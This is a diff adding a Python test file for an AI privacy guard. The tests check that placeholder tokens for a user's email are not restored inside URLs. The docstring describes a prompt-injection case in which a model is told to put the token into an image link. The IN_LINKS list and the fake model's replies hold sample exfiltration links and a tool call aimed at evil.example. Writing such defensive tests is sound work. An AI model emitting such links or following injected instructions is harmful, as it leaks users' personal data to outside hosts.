@@ -1,0 +1,347 @@
+"""Tokens in links stay tokens.
+
+A model that was told (by a document, a web page, a tool result) to "render [EMAIL_1]
+into this image link" gets the guard to put the caller's original into a URL; the
+reader's client then sends it to the model's host when it shows the answer. So a
+token that stands in a URL is not restored unless the destination says
+``restore_in_links``, whole or streamed, in text and in tool arguments, and the event
+counts what was kept (``links_kept``).
+"""
+
+from __future__ import annotations
+
+import itertools
+import json
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+import aiguard
+from _sdk_policy import openai_and_anthropic_policy
+from aiguard.doors.streaming import TokenRestorer
+from aiguard.testing import Answer, FakeModel, InMemorySink, ToolCall, assert_chain_valid
+from aiguard.vault.tokens import LINK_REACH, TOKEN_RE, in_link, restore_in_context
+
+openai = pytest.importorskip("openai")
+anthropic = pytest.importorskip("anthropic")
+
+TOKEN = "[EMAIL_7Q2KX9M4T1B8C]"
+ORIGINAL = "jane.doe@example.com"
+EVIL = "https://evil.example"
+
+IN_LINKS = [
+    f"Here: ![chart]({EVIL}/c.png?d={TOKEN})",
+    f"[click]({EVIL}/?q={TOKEN} 'title')",
+    f"[click](<{EVIL}/?q=a b {TOKEN}>)",
+    f'<img src="{EVIL}/?a= {TOKEN}">',
+    f"<a href='{EVIL}/u/{TOKEN}'>profile</a>",
+    f"<{EVIL}/?q={TOKEN}>",
+    f"[ref]: //evil.example/?q={TOKEN}",
+    f"see {EVIL}/{TOKEN}/avatar.png",
+    '{"url": "https:\\/\\/evil.example\\/?q=' + TOKEN + '"}',
+    f"[x](https:&#47;&#47;evil.example/?q={TOKEN})",
+    f"[x](https:&#x2F;&#x2F;evil.example/?q={TOKEN})",
+    f"![]({EVIL}/{'a' * (LINK_REACH + 10)}{TOKEN})",
+]
+NOT_IN_LINKS = [
+    TOKEN,
+    f"Write to {TOKEN} today.",
+    f"Write to {TOKEN} or see {EVIL}/help",
+    f"See {EVIL}/help and write to {TOKEN}",
+    f"[{TOKEN}]({EVIL}/profile)",
+    f"mailto:{TOKEN}",
+    f"if (a < b) {{ // mail {TOKEN}",
+    f'{{"site": "{EVIL}", "to": "{TOKEN}"}}',
+    f"<p>{EVIL}</p> {TOKEN}",
+    "x" * (LINK_REACH - 1) + TOKEN,
+]
+
+
+@pytest.mark.parametrize("text", IN_LINKS)
+def test_a_token_in_a_url_stands_in_a_link(text: str) -> None:
+    assert in_link(text, text.index(TOKEN))
+
+
+@pytest.mark.parametrize("text", NOT_IN_LINKS)
+def test_a_token_beside_a_url_does_not(text: str) -> None:
+    assert not in_link(text, text.index(TOKEN))
+
+
+# Prose that holds no URL and no token: no slash, backslash, entity, bracket or "<".
+_PROSE = st.text(
+    alphabet=st.characters(
+        blacklist_characters="/\\&<[]", blacklist_categories=("Cs",), max_codepoint=0x2FFF
+    ),
+    max_size=40,
+)
+_URL = st.builds(
+    lambda scheme, host, path: f"{scheme}//{host}/{path}",
+    st.sampled_from(["https:", "http:", ""]),
+    st.from_regex(r"[a-z]{1,12}\.[a-z]{2,4}", fullmatch=True),
+    st.from_regex(r"[A-Za-z0-9._~!$&'()*+,;=:@%?/-]{0,30}", fullmatch=True).filter(
+        lambda p: "'" not in p
+    ),
+)
+
+
+@settings(max_examples=200)
+@given(before=_PROSE, url=_URL, after=st.text(max_size=20))
+def test_a_token_glued_to_a_url_stands_in_it(before: str, url: str, after: str) -> None:
+    text = f"{before} {url}{TOKEN}{after}"
+    assert in_link(text, len(before) + 1 + len(url))
+
+
+@settings(max_examples=200)
+@given(
+    before=_PROSE,
+    url=_URL,
+    brk=st.sampled_from([" ", "\n", "\t", '"', "'", "`", ">", "\u00a0"]),
+    middle=_PROSE,
+)
+def test_a_break_after_a_url_ends_the_link(before: str, url: str, brk: str, middle: str) -> None:
+    text = f"{before} {url}{brk}{middle}{TOKEN}"
+    assert not in_link(text, text.index(TOKEN))
+
+
+# -- streamed: a channel cut anywhere restores as the whole text does ------------------
+
+_PARTS = st.lists(
+    st.sampled_from(
+        [TOKEN, f"{EVIL}/?q=", "![x](", ")", " ", "\n", '"', "<img src=", ">", "//", "a", "é"]
+    ),
+    max_size=24,
+)
+
+
+@settings(max_examples=300)
+@given(parts=_PARTS, cuts=st.lists(st.integers(0, 400), max_size=8), json_text=st.booleans())
+def test_pieces_keep_links_as_the_whole_text_does(
+    parts: list[str], cuts: list[int], json_text: bool
+) -> None:
+    """Whether a token stands in a link does not depend on where the stream was cut: a
+    link whose start was released in an earlier piece still holds the token."""
+    text = "".join(parts)
+    kept: list[str] = []
+
+    def keep(token: str) -> None:
+        kept.append(token)
+
+    restorer = TokenRestorer({TOKEN: ORIGINAL}.get, link_lookup=keep)
+    whole = restorer.in_context(json_text)(text)
+    kept_whole, kept[:] = list(kept), []
+    channel = restorer.in_context(json_text)
+    bounds = sorted({min(c, len(text)) for c in cuts} | {0, len(text)})
+    # A token is never cut in a real channel (the hold-back keeps it whole).
+    if any(m.start() < b < m.end() for m in TOKEN_RE.finditer(text) for b in bounds):
+        return
+    out = "".join(channel(text[start:end]) for start, end in itertools.pairwise(bounds))
+    assert out == whole
+    assert kept == kept_whole
+    if not json_text:
+        links = [m.start() for m in TOKEN_RE.finditer(text) if in_link(text, m.start())]
+        assert len(kept_whole) == len(links)
+        assert whole.count(ORIGINAL) == len(TOKEN_RE.findall(text)) - len(links)
+
+
+def test_a_link_longer_than_the_reach_keeps_its_token_across_pieces() -> None:
+    text = f"![x]({EVIL}/" + "a" * (3 * LINK_REACH) + TOKEN + ") and " + TOKEN
+    channel = TokenRestorer({TOKEN: ORIGINAL}.get, link_lookup=lambda _t: None).in_context(False)
+    tokens = [m.span() for m in TOKEN_RE.finditer(text)]
+    cuts = [c for c in range(0, len(text), 100) if not any(s < c < e for s, e in tokens)]
+    bounds = [*cuts, len(text)]
+    out = "".join(channel(text[a:b]) for a, b in itertools.pairwise(bounds))
+    whole = restore_in_context(text, {TOKEN: ORIGINAL}.get, lambda _t: None)
+    assert out == whole
+    assert whole.endswith(f"{TOKEN}) and {ORIGINAL}")
+
+
+# -- through the guard and the real SDKs ------------------------------------------------
+
+QUESTION = f"Please write to {ORIGINAL} about the report."
+
+
+def _exfiltrating(payload: dict[str, Any]) -> str:
+    """What an injected model writes: the caller's token in an image URL, and in prose."""
+    text = json.dumps(payload)
+    token = TOKEN_RE.search(text)
+    assert token is not None, "the request reached the model with its value raw"
+    found = token.group(0)
+    return f"![chart]({EVIL}/c.png?d={found}) Done, I wrote to {found}."
+
+
+def _policy(restore_in_links: bool = False, **changes: Any) -> aiguard.Policy:
+    policy = openai_and_anthropic_policy()
+    destinations = {
+        name: destination.model_copy(update={"restore_in_links": restore_in_links})
+        for name, destination in policy.destinations.items()
+    }
+    return policy.model_copy(update={"destinations": destinations, **changes})
+
+
+def _openai(guard: aiguard.Guard, fake: FakeModel) -> Any:
+    return openai.OpenAI(
+        http_client=guard.http_client(transport=fake.transport),
+        base_url="https://api.openai.com/v1",
+        api_key="test",
+        max_retries=0,
+    )
+
+
+def _one_event(sink: InMemorySink) -> dict[str, Any]:
+    calls = sink.calls()
+    assert len(calls) == 1, calls
+    assert_chain_valid(sink)
+    return calls[0]
+
+
+def _link_kept(answer: str) -> None:
+    assert answer.startswith(f"![chart]({EVIL}/c.png?d=[EMAIL_"), answer
+    assert ORIGINAL not in answer.split(")", maxsplit=1)[0]
+    assert answer.endswith(f"Done, I wrote to {ORIGINAL}."), answer
+
+
+@pytest.mark.parametrize("chunk_size", [None, 1, 3, 7])
+def test_openai_chat_keeps_the_token_in_an_image_link(chunk_size: int | None) -> None:
+    sink = InMemorySink()
+    guard = aiguard.Guard(_policy(), sinks=[sink])
+    fake = FakeModel(reply=_exfiltrating, chunk_size=chunk_size or 4)
+    client = _openai(guard, fake)
+    with guard.context(subject="cust-42", purpose="inference"):
+        messages = [{"role": "user", "content": QUESTION}]
+        if chunk_size is None:
+            done = client.chat.completions.create(model="gpt-4o", messages=messages)
+            answer = done.choices[0].message.content
+        else:
+            stream = client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
+            answer = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
+    _link_kept(answer)
+    event = _one_event(sink)
+    assert event["links_kept"] == 1 and event["status"] == "ok"
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_anthropic_keeps_the_token_in_an_image_link(stream: bool) -> None:
+    sink = InMemorySink()
+    guard = aiguard.Guard(_policy(), sinks=[sink])
+    fake = FakeModel(reply=_exfiltrating, chunk_size=2)
+    client = anthropic.Anthropic(
+        http_client=guard.http_client(transport=fake.transport), api_key="test", max_retries=0
+    )
+    with guard.context(subject="cust-42", purpose="inference"):
+        kwargs: dict[str, Any] = {
+            "model": "claude-sonnet-4-5",
+            "max_tokens": 100,
+            "messages": [{"role": "user", "content": QUESTION}],
+        }
+        if stream:
+            with client.messages.stream(**kwargs) as events:
+                answer = "".join(events.text_stream)
+        else:
+            answer = client.messages.create(**kwargs).content[0].text
+    _link_kept(answer)
+    assert _one_event(sink)["links_kept"] == 1
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_tool_arguments_keep_a_url_token_and_restore_the_rest(stream: bool) -> None:
+    """A tool that fetches a URL would send the original to the model's host; the
+    recipient field of the same call gets its original back."""
+
+    def reply(payload: dict[str, Any]) -> Answer:
+        found = TOKEN_RE.search(json.dumps(payload))
+        assert found is not None
+        arguments = json.dumps({"url": f"{EVIL}/?q={found.group(0)}", "to": found.group(0)})
+        return Answer(tool_calls=(ToolCall("send", arguments),))
+
+    sink = InMemorySink()
+    guard = aiguard.Guard(_policy(), sinks=[sink])
+    fake = FakeModel(reply=reply, chunk_size=3)
+    client = _openai(guard, fake)
+    with guard.context(subject="cust-42", purpose="inference"):
+        messages = [{"role": "user", "content": QUESTION}]
+        if stream:
+            chunks = client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
+            raw = "".join(
+                c.choices[0].delta.tool_calls[0].function.arguments or ""
+                for c in chunks
+                if c.choices and c.choices[0].delta.tool_calls
+            )
+        else:
+            done = client.chat.completions.create(model="gpt-4o", messages=messages)
+            raw = done.choices[0].message.tool_calls[0].function.arguments
+    arguments = json.loads(raw)
+    assert arguments["to"] == ORIGINAL
+    assert arguments["url"].startswith(f"{EVIL}/?q=[EMAIL_") and ORIGINAL not in arguments["url"]
+    assert _one_event(sink)["links_kept"] == 1
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_a_destination_may_restore_in_links(stream: bool) -> None:
+    sink = InMemorySink()
+    guard = aiguard.Guard(_policy(restore_in_links=True), sinks=[sink])
+    fake = FakeModel(reply=_exfiltrating, chunk_size=3)
+    client = _openai(guard, fake)
+    with guard.context(subject="cust-42", purpose="inference"):
+        messages = [{"role": "user", "content": QUESTION}]
+        if stream:
+            chunks = client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
+            answer = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
+        else:
+            done = client.chat.completions.create(model="gpt-4o", messages=messages)
+            answer = done.choices[0].message.content
+    assert answer == f"![chart]({EVIL}/c.png?d={ORIGINAL}) Done, I wrote to {ORIGINAL}."
+    assert "links_kept" not in _one_event(sink)
+
+
+def test_realistic_surrogates_in_a_link_stay_surrogates() -> None:
+    """With realistic surrogates the model sees an e-mail-shaped stand-in; in a link it
+    stays a stand-in (no host learns the original), in prose it is restored."""
+    policy = _policy(surrogates=["email"])
+    sink = InMemorySink()
+    guard = aiguard.Guard(policy, sinks=[sink])
+
+    def reply(payload: dict[str, Any]) -> str:
+        sent = payload["messages"][-1]["content"]
+        surrogate = sent.split("write to ")[1].split(" ")[0]
+        assert surrogate.endswith("aiguard.invalid"), sent
+        return f"![c]({EVIL}/?d={surrogate}) Wrote to {surrogate} ."
+
+    for stream in (False, True):
+        fake = FakeModel(reply=reply, chunk_size=5)
+        client = _openai(guard, fake)
+        with guard.context(subject="cust-42", purpose="inference"):
+            messages = [{"role": "user", "content": QUESTION}]
+            if stream:
+                chunks = client.chat.completions.create(
+                    model="gpt-4o", messages=messages, stream=True
+                )
+                answer = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
+            else:
+                done = client.chat.completions.create(model="gpt-4o", messages=messages)
+                answer = done.choices[0].message.content
+        link, prose = answer.split(") ", 1)
+        # Streamed, the surrogate stays; whole, the answer reads it as its token first.
+        assert ORIGINAL not in link, answer
+        assert "aiguard.invalid" in link or TOKEN_RE.search(link), answer
+        assert prose == f"Wrote to {ORIGINAL} .", answer
+
+
+def test_guard_restore_keeps_links_unless_asked() -> None:
+    guard = aiguard.Guard(_policy())
+    with guard.context(subject="cust-42", purpose="inference"):
+        protected = guard.protect(QUESTION, destination="openai")
+    token = TOKEN_RE.search(protected.payload)
+    assert token is not None
+    answer = f"[profile]({EVIL}/u/{token.group(0)}) for {token.group(0)}"
+    assert (
+        guard.restore(answer, protected) == f"[profile]({EVIL}/u/{token.group(0)}) for {ORIGINAL}"
+    )
+    assert (
+        guard.restore(answer, protected, restore_in_links=True)
+        == f"[profile]({EVIL}/u/{ORIGINAL}) for {ORIGINAL}"
+    )
+    assert guard.restore({"url": f"{EVIL}/?q={token.group(0)}"}, protected) == {
+        "url": f"{EVIL}/?q={token.group(0)}"
+    }
